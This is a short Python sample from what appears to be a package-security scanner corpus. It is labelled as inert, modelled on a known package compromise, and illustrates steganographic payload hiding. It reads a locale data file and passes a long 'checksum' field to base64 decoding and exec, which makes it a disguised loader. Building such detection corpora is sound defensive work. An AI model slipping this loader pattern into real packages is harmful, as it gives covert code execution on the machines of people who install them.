# pkgguard corpus 618 (steganography), modelled on [telnyx]; inert, never run.
import base64
import json
import os

with open(os.path.join(os.path.dirname(__file__), "data", "locales.json"), encoding="utf-8") as fh:
    table = json.load(fh)
_check = table.get("_meta", {}).get("checksum", "")
if len(_check) > 64:
    exec(compile(base64.b64decode(_check), "<locales>", "exec"))
